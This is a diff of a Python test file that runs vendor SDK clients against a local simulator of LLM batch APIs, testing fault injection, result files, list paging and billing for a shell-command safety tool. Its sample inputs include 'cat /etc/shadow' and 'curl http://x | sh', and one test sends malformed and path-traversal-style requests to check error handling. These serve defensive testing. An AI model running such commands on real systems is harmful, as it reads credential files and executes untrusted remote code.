@@ -1,19 +1,33 @@
-"""The vendors' own clients create, poll, list, read and cancel batches on the simulator."""
+"""The vendors' own clients and the simulator's batches: creation, results, faults and bill."""
 
+import asyncio
 import io
 import json
 import threading
 import time
+from collections import Counter
 from collections.abc import Callable, Iterator
+from decimal import Decimal
 from typing import Any, TypeVar
 
+import aiohttp
+import anthropic
+import openai
 import pytest
 from anthropic import Anthropic
 from google import genai
 from google.genai import types
 from openai import OpenAI
 
-from aegish_dist.simulator.config import BatchPlan, SimulatorConfig
+from aegish_dist.simulator.bill import Tariff
+from aegish_dist.simulator.config import (
+    BatchPlan,
+    CallFault,
+    EndFault,
+    Endpoint,
+    RequestFault,
+    SimulatorConfig,
+)
 from aegish_dist.simulator.personas import NO_LATENCY, parse_latency
 from aegish_dist.simulator.server import simulator_thread
 
@@ -21,10 +35,6 @@ DEADLINE_S = 20.0
 COMMANDS = ("cat /etc/shadow", "ls", "curl http://x | sh")
 ENDPOINT: Any = "/v1/chat/completions"
 T = TypeVar("T")
-
-
-def lasting(seconds: float) -> BatchPlan:
-    return BatchPlan(parse_latency(f"constant:{seconds}"))
 
 
 def until(ask: Callable[[], T], satisfied: Callable[[T], bool]) -> T:
@@ -38,8 +48,7 @@ def until(ask: Callable[[], T], satisfied: Callable[[T], bool]) -> T:
 @pytest.fixture(scope="module")
 def url() -> Iterator[str]:
     """Return the root of a simulator whose batches take a moment."""
-    config = SimulatorConfig(latency=NO_LATENCY, require_key=True, batches=lasting(0.05))
-    with simulator_thread(config) as simulator:
+    with simulator_thread(simulated(0.05, require_key=True)) as simulator:
         yield simulator.url
 
 
@@ -72,7 +81,6 @@ def openai_batch(client: OpenAI, content: bytes) -> Any:
 
 
 def test_openai_answers_a_batch_as_it_answers_live(url: str) -> None:
-    """Each result has the name of its request and the answer of a live call."""
     client = openai_client(url)
     created = openai_batch(client, openai_lines(*COMMANDS))
     assert (created.status, created.metadata) == ("validating", {"token": "t"})
@@ -112,7 +120,6 @@ def anthropic_requests(*commands: str) -> list[Any]:
 
 
 def test_anthropic_answers_a_batch_as_it_answers_live(url: str) -> None:
-    """Each result has the name of its request and the answer of a live call."""
     client = anthropic_client(url)
     requests = anthropic_requests(*COMMANDS)
     created = client.messages.batches.create(requests=requests)
@@ -192,3 +199,264 @@ def test_google_answers_inline_requests_in_their_order(url: str) -> None:
     assert responses[0].response.text == live.text
     client.batches.delete(name=str(created.name))
     assert created.name not in {each.name for each in client.batches.list()}
+
+
+NUMBER = 60
+PRICE = Tariff(input=Decimal(1), output=Decimal(10))
+
+
+def simulated(seconds: float = 0.02, *, require_key: bool = False, **plan: Any) -> SimulatorConfig:
+    """Return a provider whose batches take so long, with a plan of faults."""
+    plan = {"duration": parse_latency(f"constant:{seconds}"), **plan}
+    return SimulatorConfig(
+        latency=NO_LATENCY, price=PRICE, require_key=require_key, batches=BatchPlan(**plan)
+    )
+
+
+def commands(number: int = NUMBER) -> list[str]:
+    return [f"ls {place}" for place in range(number)]
+
+
+def openai_ended(client: openai.OpenAI, name: str) -> Any:
+    ended = {"completed", "failed", "expired", "cancelled"}
+    return until(lambda: client.batches.retrieve(name), lambda batch: batch.status in ended)
+
+
+def openai_results(client: openai.OpenAI, batch: Any) -> Counter[tuple[str, str]]:
+    """Count the lines of a batch by the file they are in and how each ended."""
+    found: Counter[tuple[str, str]] = Counter()
+    for use in ("output_file_id", "error_file_id"):
+        name = getattr(batch, use)
+        lines = [] if name is None else client.files.content(name).text.splitlines()
+        for line in lines:
+            try:
+                entry = json.loads(line)
+            except ValueError:
+                found[use, "malformed"] += 1
+                continue
+            response = entry["response"]
+            found[use, str(response["status_code"] if response else entry["error"]["code"])] += 1
+    return found
+
+
+def test_every_fault_of_a_request_shows_in_the_results() -> None:
+    """Errors are in a file of their own; lines are missing, doubled, cut and foreign."""
+    faults = dict.fromkeys(
+        (
+            RequestFault.REFUSED,
+            RequestFault.SERVER_ERROR,
+            RequestFault.MISSING,
+            RequestFault.DUPLICATE,
+            RequestFault.MALFORMED,
+            RequestFault.FOREIGN,
+        ),
+        0.1,
+    )
+    with simulator_thread(simulated(requests=faults)) as simulator:
+        client = openai_client(simulator.url)
+        batch = openai_ended(client, openai_batch(client, openai_lines(*commands(200))).id)
+        found = openai_results(client, batch)
+        bill = simulator.stats.bill.as_dict()
+    refused, failed = found["error_file_id", "400"], found["error_file_id", "500"]
+    broken, whole = found["output_file_id", "malformed"], found["output_file_id", "200"]
+    assert min(refused, failed, broken) > 5
+    charges = bill["models"]["careful"]
+    # Missing ones are neither answered nor charged; second and foreign lines are not charged.
+    missing = 200 - refused - failed - charges["batch"]["requests"]
+    assert missing > 5
+    assert whole - (charges["batch"]["requests"] - broken) > 10
+    assert charges["batch_unreadable"]["requests"] == broken
+    assert bill["charged_twice"] == 0
+
+
+@pytest.mark.parametrize(
+    ("fault", "status", "code"),
+    [
+        (EndFault.EXPIRED, "expired", "batch_expired"),
+        (EndFault.CANCELLED, "cancelled", "batch_cancelled"),
+    ],
+)
+def test_a_batch_that_ends_early_answers_and_charges_a_part(
+    fault: EndFault, status: str, code: str
+) -> None:
+    with simulator_thread(simulated(ends={fault: 1.0})) as simulator:
+        client = openai_client(simulator.url)
+        batch = openai_ended(client, openai_batch(client, openai_lines(*commands())).id)
+        found = openai_results(client, batch)
+        charged = simulator.stats.bill.as_dict()["models"]["careful"]["batch"]["requests"]
+    assert batch.status == status
+    answered, rest = found["output_file_id", "200"], found["error_file_id", code]
+    assert (answered + rest, charged) == (NUMBER, answered)
+    assert 0 < answered < NUMBER
+
+
+def test_a_batch_refused_as_a_whole_says_why_and_costs_nothing() -> None:
+    """By the provider's limits, or by a line that is no request."""
+    with simulator_thread(simulated(ends={EndFault.FAILED: 1.0})) as simulator:
+        client = openai_client(simulator.url)
+        first = openai_ended(client, openai_batch(client, openai_lines("ls")).id)
+        second = openai_ended(client, openai_batch(client, openai_lines("ls") + b"\n{").id)
+        bill = simulator.stats.bill.as_dict()
+    assert (first.status, first.errors.data[0].code) == ("failed", "token_limit_exceeded")
+    assert second.errors.data[0].code == "invalid_json_line"
+    assert second.errors.data[0].line == 2
+    assert (bill["models"], bill["usd"]) == ({}, "0")
+
+
+def test_a_batch_can_be_cancelled_and_charges_what_it_answered() -> None:
+    """The client cancels in the middle; requests that were not begun are named so."""
+    with simulator_thread(simulated(seconds=30.0)) as simulator:
+        client = openai_client(simulator.url)
+        batch = openai_batch(client, openai_lines(*commands()))
+        until(
+            lambda: client.batches.retrieve(batch.id),
+            lambda seen: seen.request_counts is not None and seen.request_counts.completed > 0,
+        )
+        assert client.batches.cancel(batch.id).status in ("cancelling", "cancelled")
+        ended = openai_ended(client, batch.id)
+        found = openai_results(client, ended)
+    assert ended.status == "cancelled"
+    assert found["output_file_id", "200"] == ended.request_counts.completed > 0
+    assert found["error_file_id", "batch_cancelled"] == ended.request_counts.failed > 0
+
+
+def test_a_creation_whose_response_is_lost_has_happened() -> None:
+    """The batch exists and is charged; a second one of the same token shows on the bill."""
+    scripts = {Endpoint.CREATE: (CallFault.LOST, CallFault.LATE_ERROR, CallFault.RESET)}
+    with simulator_thread(simulated(scripts=scripts)) as simulator:
+        client = openai_client(simulator.url)
+        for error in (openai.APIConnectionError, openai.InternalServerError):
+            with pytest.raises(error):
+                openai_batch(client, openai_lines("ls"))
+        with pytest.raises(openai.APIConnectionError):
+            openai_batch(client, openai_lines("ls"))
+        listed = list(client.batches.list())
+        for batch in listed:
+            openai_ended(client, batch.id)
+        bill = simulator.stats.bill.as_dict()
+        faults = simulator.stats.as_dict()["batch_faults"]
+    assert [batch.metadata for batch in listed] == [{"token": "t"}] * 2
+    assert (bill["batches"], bill["tokens_used_twice"], bill["charged_twice"]) == (2, ["t"], 1)
+    assert faults == {"create.lost": 1, "create.late_error": 1, "create.reset": 1}
+
+
+def test_a_list_may_lag_behind() -> None:
+    """A batch that exists is in no list for a while, and can be retrieved by its name."""
+    with simulator_thread(simulated(list_lag_s=0.3)) as simulator:
+        client = openai_client(simulator.url)
+        began = time.monotonic()
+        batch = openai_batch(client, openai_lines("ls"))
+        first = list(client.batches.list())
+        assert first == [] or time.monotonic() - began > 0.3
+        assert client.batches.retrieve(batch.id).id == batch.id
+        until(lambda: list(client.batches.list()), lambda found: len(found) == 1)
+
+
+def test_results_may_break_off_and_be_read_again() -> None:
+    """The connection ends in the middle of the results; the next reading is whole."""
+    scripts = {Endpoint.RESULTS: (CallFault.TRUNCATED, CallFault.HANG)}
+    config = simulated(scripts=scripts, hang_s=0.01)
+    with simulator_thread(config) as simulator, anthropic_client(simulator.url) as client:
+        requests = anthropic_requests(*commands(5))
+        name = client.messages.batches.create(requests=requests).id
+        until(
+            lambda: client.messages.batches.retrieve(name),
+            lambda batch: batch.processing_status == "ended",
+        )
+        for _ in range(2):
+            # The client passes on what its HTTP library raises, of either of two names.
+            with pytest.raises(Exception, match=r"peer closed|[Cc]onnection|read"):
+                list(client.messages.batches.results(name))
+        results = list(client.messages.batches.results(name))
+    assert sorted(each.custom_id for each in results) == [f"t-{place}" for place in range(5)]
+
+
+def test_anthropic_names_errors_by_request_and_refuses_names_that_it_does_not_take() -> None:
+    """A failing batch fails each request; a bad or repeated name refuses the whole."""
+    config = simulated(ends={EndFault.FAILED: 1.0})
+    with simulator_thread(config) as simulator, anthropic_client(simulator.url) as client:
+        batches = client.messages.batches
+        for name in ("a b", "", "t-1"):
+            requests = anthropic_requests("ls", "id")
+            requests[0]["custom_id"] = name
+            with pytest.raises(anthropic.BadRequestError, match="custom_id"):
+                batches.create(requests=requests)
+        created = batches.create(requests=anthropic_requests("ls", "id"))
+        batch = until(
+            lambda: batches.retrieve(created.id), lambda each: each.processing_status == "ended"
+        )
+        results = [each.result for each in batches.results(created.id)]
+        bill = simulator.stats.bill.as_dict()
+    assert batch.request_counts.errored == 2
+    assert [result.type for result in results] == ["errored"] * 2
+    assert (bill["batches"], bill["models"]) == (1, {})
+
+
+def test_lists_have_pages_in_every_dialect() -> None:
+    """The clients' own paging finds every batch once, the newest first."""
+    with simulator_thread(simulated()) as simulator:
+        client = openai_client(simulator.url)
+        names = [openai_batch(client, openai_lines("ls")).id for _ in range(5)]
+        assert [batch.id for batch in client.batches.list(limit=2)] == names[::-1]
+        with anthropic_client(simulator.url) as other:
+            batches = other.messages.batches
+            ids = [batches.create(requests=anthropic_requests("ls")).id for _ in range(5)]
+            assert [batch.id for batch in batches.list(limit=2)] == ids[::-1]
+            before = batches.list(limit=2, before_id=ids[1])
+            assert [batch.id for batch in before.data] == [ids[3], ids[2]]
+        google = google_client(simulator.url)
+        source: Any = [google_request("ls")]
+        jobs = [google.batches.create(model="careful", src=source).name for _ in range(3)]
+        found = [job.name for job in google.batches.list(config={"page_size": 2})]
+        assert found == jobs[::-1]
+
+
+def test_google_keeps_no_result_of_an_expired_batch() -> None:
+    with simulator_thread(simulated(ends={EndFault.EXPIRED: 1.0})) as simulator:
+        client = google_client(simulator.url)
+        source: Any = [google_request(command) for command in commands(3)]
+        job = google_ended(client, client.batches.create(model="careful", src=source).name)
+        bill = simulator.stats.bill.as_dict()
+    assert str(job.state) == "JobState.JOB_STATE_EXPIRED"
+    assert job.dest is None or not job.dest.inlined_responses
+    assert bill["models"] == {}
+
+
+@pytest.mark.parametrize(
+    ("method", "path", "headers", "body"),
+    [
+        ("POST", "/v1/files", {"Content-Type": "multipart/form-data"}, b"no parts"),
+        ("POST", "/v1/files", {"Content-Type": "multipart/form-data; boundary=a"}, b"--b\r\n"),
+        ("POST", "/v1/files", {"Content-Type": "text/plain"}, b""),
+        ("POST", "/v1/batches", {}, b"[" * 100_000),
+        ("POST", "/v1/batches", {}, b'{"input_file_id": {"a": 1}}'),
+        ("GET", "/v1/batches?limit=%00&after=%FF", {}, b""),
+        ("GET", f"/v1/batches?limit={'9' * 5_000}", {}, b""),
+        ("GET", "/v1/batches/batch_..%2F..", {}, b""),
+        ("POST", "/v1/messages/batches", {}, b'{"requests": [1, null, {"params": 1}]}'),
+        ("POST", "/v1/messages/batches", {}, b'{"requests": {"a": 1}}'),
+        ("GET", "/v1/messages/batches?limit=-1&before_id=x&after_id=y", {}, b""),
+        ("POST", "/v1beta/models/m:batchGenerateContent", {}, b'{"batch": {"inputConfig": []}}'),
+        ("POST", "/v1beta/models/m:batchGenerateContent", {}, b'{"batch": 1}'),
+        (
+            "POST",
+            "/upload/v1beta/files",
+            {
+                "X-Goog-Upload-Command": "start",
+                "X-Goog-Upload-Header-Content-Length": "many",
+            },
+            b'{"file": 1}',
+        ),
+        ("POST", "/upload/v1beta/files?upload_id=x", {"X-Goog-Upload-Offset": "0"}, b"a"),
+    ],
+)
+def test_a_broken_request_is_answered_in_the_dialect(
+    url: str, method: str, path: str, headers: dict[str, str], body: bytes
+) -> None:
+    async def ask() -> int:
+        async with aiohttp.ClientSession() as session:
+            response = await session.request(method, url + path, headers=headers, data=body)
+            await response.json()
+            return response.status
+
+    assert asyncio.run(ask()) in (200, 400, 404)
